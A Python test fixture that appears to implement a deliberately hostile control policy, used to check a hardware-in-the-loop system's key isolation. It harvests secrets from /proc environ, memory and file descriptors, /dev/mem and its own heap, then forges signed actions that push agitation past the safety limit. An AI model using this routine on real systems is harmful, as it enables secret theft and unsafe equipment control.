"""A hostile `[policy] entry` for tests/integration/test_policy_attack.py: untrusted policy code
that tries to obtain the run's bus secret and, with anything it finds, signs its own actions.

Features: dissolved_oxygen, u.agitation_power; actions: agitation_power (W), base_flow (L/h), in
that order ([policy] inputs of the test's scenario). It proposes 77.7 W agitation every step
(above the 60 W shear limit at 100 L, and 64.7 W past the applied value: far past the 2 W/s
rate limit), and at start and every 100 observations it tries:

- the run directory: list it, read its `key` file (the policy's working directory is
  `<run dir>/policy`, so the run directory is `..`);
- the environment blocks of the loop (its parent) and the safety process
  (`/proc/<pid>/environ`), their memory (`/proc/<pid>/mem` at a mapped address from
  `/proc/<pid>/maps`, else at a fixed one), their open files (each `/proc/<pid>/fd/N`), and
  physical or kernel memory (`/dev/mem`, `/proc/kcore`);
- its own environment (`os.environ`, `/proc/self/environ`) for a bus key;
- the channel keys it holds itself (found by walking its own heap with `gc`), used for the
  action channel (the keys of one channel are useless on another, hil/bus/auth.py).

Every candidate secret (a 32-byte key from any source) and every channel key it found signs
an action frame (hil.bus.wire.Sender, session id 2**62, far newer than the genuine safety's)
pushed to the loop's action socket (`HIL_ATTACK_ACTION_EP`), step after step. What it tried
and what it got goes to `attack-report.json` in its working directory (the one place it may
write), rewritten after each attempt.
"""

from __future__ import annotations

import gc
import json
import os
import re

import numpy as np

EVIL = [77.7, 0.0044]  # agitation_power W, base_flow L/h
HEX_KEY = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")


def _try(report: dict, what: str, fn):
    """Run one attempt; record ok + size or the error. Returns what fn returned, None on error."""
    try:
        out = fn()
    except Exception as exc:  # noqa: BLE001 - the report says what stopped it
        report["tried"][what] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"}
        return None
    report["tried"][what] = {"ok": True, "size": len(out) if hasattr(out, "__len__") else None}
    return out


def _read(path: str, size: int = 1 << 20, offset: int | None = None) -> bytes:
    with open(path, "rb", buffering=0) as f:
        if offset is not None:
            f.seek(offset)
        return f.read(size)


def _first_mapped_address(pid: int) -> int:
    for line in _read(f"/proc/{pid}/maps").decode().splitlines():
        if "rw-p" in line:
            return int(line.split("-", 1)[0], 16)
    raise LookupError("no writable mapping")


def _safety_pid(parent: int) -> int | None:
    """The hil.safety.wrapper child of `parent` (cmdline and stat are world-readable)."""
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            cmd = _read(f"/proc/{name}/cmdline")
            ppid = int(_read(f"/proc/{name}/stat").rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        if ppid == parent and b"hil.safety.wrapper" in cmd:
            return int(name)
    return None


class Thief:
    """The hostile policy: `act(x)` proposes EVIL and forges actions with whatever it found."""

    def __init__(self):
        self.report = {"tried": {}, "secrets_found": [], "channel_keys_found": [], "forged_sent": 0,
                       "pids": {}, "attempts": 0}
        self.candidates: dict[str, bytes] = {}  # source -> 32-byte secret
        self.channel_keys: dict[str, bytes] = {}  # where found -> a channel key this process holds
        self.calls = 0
        self._push = None
        self._senders: list = []

    # ---- the attempts ----
    def _note_secret(self, source: str, data: bytes | None) -> None:
        if not data:
            return
        for m in HEX_KEY.findall(data):
            self.candidates[source] = bytes.fromhex(m.decode())
        for m in re.findall(rb"HIL_BUS_KEY=([0-9a-fA-F]+)", data):
            self.candidates[source + ":HIL_BUS_KEY"] = bytes.fromhex(m.decode())

    def steal(self) -> None:
        r = self.report
        r["attempts"] += 1
        loop = os.getppid()
        safety = _safety_pid(loop)
        r["pids"] = {"self": os.getpid(), "loop": loop, "safety": safety}
        run_dir = os.path.dirname(os.getcwd())
        _try(r, "listdir run dir", lambda: os.listdir(run_dir))
        self._note_secret("key file", _try(r, "read run dir key", lambda: _read(os.path.join(run_dir, "key"))))
        for who, pid in (("loop", loop), ("safety", safety)):
            if pid is None:
                r["tried"][f"find {who}"] = {"ok": False, "error": "not found"}
                continue
            self._note_secret(f"{who} environ", _try(r, f"read {who} environ",
                                                     lambda pid=pid: _read(f"/proc/{pid}/environ")))
            addr = _try(r, f"read {who} maps", lambda pid=pid: [_first_mapped_address(pid)])
            start = addr[0] if addr else 0x400000
            self._note_secret(f"{who} mem", _try(r, f"read {who} mem",
                                                 lambda pid=pid, start=start: _read(f"/proc/{pid}/mem", 1 << 20, start)))
            fds = _try(r, f"list {who} fds", lambda pid=pid: os.listdir(f"/proc/{pid}/fd")) or []
            r["fd_numbers_listed"] = r.get("fd_numbers_listed", 0) + len(fds)  # numbers only, no secret
            for n in fds:  # what each one is open on (a key file, the bootstrap pipe ...)
                self._note_secret(f"{who} fd {n}", _try(r, f"open {who} fd {n}",
                                                        lambda pid=pid, n=n: _read(f"/proc/{pid}/fd/{n}", 4096)))
            _try(r, f"read {who} cwd", lambda pid=pid: os.listdir(f"/proc/{pid}/cwd"))
        _try(r, "read /proc/kcore", lambda: _read("/proc/kcore", 4096, 0x1000))
        _try(r, "read /dev/mem", lambda: _read("/dev/mem", 4096, 0x1000))
        own = "\0".join(f"{k}={v}" for k, v in os.environ.items()).encode()
        r["own_env_bus_vars"] = sorted(k for k in os.environ if k.startswith("HIL_BUS"))
        self._note_secret("own os.environ", own)
        self._note_secret("own /proc/self/environ", _try(r, "read own environ", lambda: _read("/proc/self/environ")))
        self._find_own_keys()
        r["secrets_found"] = sorted(self.candidates)
        r["channel_keys_found"] = sorted(self.channel_keys)
        self._write()

    def _find_own_keys(self) -> None:
        """The keys this process holds (obs, proposal, command), from its heap: any object whose
        `key` attribute is a dict of channel -> key (what the runner got over its bootstrap
        pipe) or a bare secret."""
        for obj in gc.get_objects():
            try:
                attrs = object.__getattribute__(obj, "__dict__")
                key = attrs.get("key") if isinstance(attrs, dict) else None
            except Exception:  # noqa: BLE001 - no instance dict
                continue
            if isinstance(key, dict):
                for ch, k in key.items():
                    if isinstance(ch, str) and isinstance(k, bytes):
                        self.channel_keys[f"heap:{ch}"] = k
                        if ch == "action":  # a process holding the action key could sign actions
                            self.candidates["heap:action"] = k
            elif isinstance(key, bytes) and len(key) >= 16:
                self.candidates["heap:secret"] = key

    # ---- forging ----
    def _forge(self, step: int, t_s: float) -> None:
        ep = os.environ.get("HIL_ATTACK_ACTION_EP")
        if not ep:
            return
        if self._push is None:
            import zmq

            from hil.bus.wire import Sender

            self._push = zmq.Context.instance().socket(zmq.PUSH)
            self._push.setsockopt(zmq.LINGER, 0)
            self._push.setsockopt(zmq.SNDHWM, 100)
            self._push.connect(ep)
            self._senders = [Sender("action", secret, sid=2**62) for secret in self.candidates.values()]
            self._senders += [Sender("action", {"action": k}, sid=2**62 - 1 - i)
                              for i, k in enumerate(self.channel_keys.values())]
        import zmq

        for tx in self._senders:
            for s in (step, step + 1):  # the action for the observation, and the next one's
                frame = tx.encode_action(s, t_s, np.array(EVIL), "policy", "full", None)
                try:
                    self._push.send(frame, zmq.NOBLOCK)
                    self.report["forged_sent"] += 1
                except zmq.Again:
                    pass

    def _write(self) -> None:
        tmp = "attack-report.json.tmp"
        with open(tmp, "w") as f:
            json.dump(self.report, f)
        os.replace(tmp, "attack-report.json")

    # ---- the policy interface ----
    def act(self, x: np.ndarray) -> np.ndarray:
        if self.calls % 100 == 0:
            self.steal()
            self._senders = [] if self._push is None else self._senders
            if self._push is not None:  # new finds: new senders
                self._push.close(0)
                self._push = None
        self.calls += 1
        self._forge(self.calls, float(self.calls))
        if self.calls % 50 == 0:
            self._write()
        return np.array(EVIL)
